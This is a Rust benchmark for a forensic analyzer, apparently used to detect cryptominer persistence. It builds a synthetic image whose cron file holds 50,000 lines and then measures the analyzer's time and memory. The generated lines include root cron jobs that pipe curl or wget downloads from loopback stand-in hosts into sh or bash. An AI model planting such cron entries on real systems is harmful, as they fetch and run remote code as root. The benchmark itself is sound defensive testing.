//! Analysis cost of a shaped host (issue 18 case 7): one `/etc/cron.d` file of 50,000 job lines (a third
//! `curl | sh` lines to distinct URLs, a third admin jobs, a third one repeated downloader line). Builds a
//! tiny dead-box image under the temp dir, collects it with the debug collector (built if needed), then
//! times load + detect + graph + plan + every output (`analyze -o`, in process) and reports the peak
//! resident memory of each round (`VmHWM`, reset between rounds through `/proc/self/clear_refs`).
//!
//! `cargo bench -p minetrace-analyzer --bench huge_crontab [-- LINES]` (default 50,000).

use std::io::Write;
use std::time::Instant;

use minetrace_analyzer::allowlist::Allowlist;
use minetrace_analyzer::analysis::{Analysis, AnalysisInputs};
use minetrace_analyzer::commands::analyze::write_outputs;
use minetrace_analyzer::indicators::Indicators;

mod support;

const ROUNDS: usize = 5;

fn crontab(lines: usize) -> Vec<u8> {
    let mut out = b"SHELL=/bin/sh\n".to_vec();
    for i in 0..lines {
        let line = match i % 3 {
            0 => format!(
                "*/5 * * * * root curl -fsSL http://127.66.{}.{}/x{i}.sh | sh\n",
                i % 250,
                i % 200
            ),
            1 => format!(
                "{} {} * * * root /usr/local/bin/job{i} --flag\n",
                i % 60,
                i % 24
            ),
            _ => "* * * * * root wget -q -O- http://127.66.1.1/same.sh | bash\n".to_owned(),
        };
        out.extend_from_slice(line.as_bytes());
    }
    out
}

/// Peak resident memory of this process since the last reset, in KiB.
fn peak_kib() -> u64 {
    std::fs::read_to_string("/proc/self/status")
        .ok()
        .and_then(|s| {
            s.lines()
                .find_map(|l| l.strip_prefix("VmHWM:"))
                .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        })
        .unwrap_or(0)
}

fn reset_peak() {
    if let Ok(mut f) = std::fs::OpenOptions::new()
        .write(true)
        .open("/proc/self/clear_refs")
    {
        let _ = f.write_all(b"5");
    }
}

fn main() {
    let lines: usize = std::env::args()
        .skip(1)
        .find(|a| !a.starts_with("--"))
        .and_then(|a| a.parse().ok())
        .unwrap_or(50_000);
    let work = std::env::temp_dir().join(format!("minetrace-bench-cron-{}", std::process::id()));
    let image = work.join("image");
    std::fs::create_dir_all(image.join("etc/cron.d")).expect("image dirs");
    std::fs::write(
        image.join("etc/passwd"),
        b"root:x:0:0:root:/root:/bin/bash\n",
    )
    .expect("passwd");
    std::fs::write(image.join("etc/cron.d/huge"), crontab(lines)).expect("crontab");
    let bundle = work.join("bundle.tar.zst");
    support::collect(Some(&image), &bundle);
    let inputs = AnalysisInputs {
        iocs: Indicators::builtin(),
        allow: Allowlist::default(),
        allow_tampered: false,
    };
    let mut times = Vec::new();
    let mut cpu = Vec::new();
    let mut peaks = Vec::new();
    let load_before = support::load_1min();
    for round in 0..ROUNDS {
        let out = work.join(format!("out{round}"));
        reset_peak();
        let (t, c) = (Instant::now(), support::cpu_secs());
        let a = Analysis::run(&bundle, &inputs).expect("analyze the bundle");
        write_outputs(&a, &out).expect("write the outputs");
        times.push(t.elapsed().as_secs_f64() * 1000.0);
        cpu.push((support::cpu_secs() - c) * 1000.0);
        peaks.push(peak_kib());
        if round == 0 {
            println!(
                "{lines} cron lines: {} persistence entries kept, {} findings",
                a.model.persistence.len(),
                a.document.findings.len()
            );
        }
        let _ = std::fs::remove_dir_all(&out);
    }
    times.sort_by(f64::total_cmp);
    cpu.sort_by(f64::total_cmp);
    peaks.sort_unstable();
    println!(
        "analyze -o (load, detect, graph, plan, outputs): wall min {:.0} ms, median {:.0} ms, max {:.0} ms; CPU median {:.0} ms (max {:.0}); peak RSS median {} MiB, max {} MiB; 1-min load {:.1} before, {:.1} after",
        times.first().copied().unwrap_or_default(),
        times.get(times.len() / 2).copied().unwrap_or_default(),
        times.last().copied().unwrap_or_default(),
        cpu.get(cpu.len() / 2).copied().unwrap_or_default(),
        cpu.last().copied().unwrap_or_default(),
        peaks.get(peaks.len() / 2).copied().unwrap_or_default() / 1024,
        peaks.last().copied().unwrap_or_default() / 1024,
        load_before,
        support::load_1min(),
    );
    let _ = std::fs::remove_dir_all(&work);
}
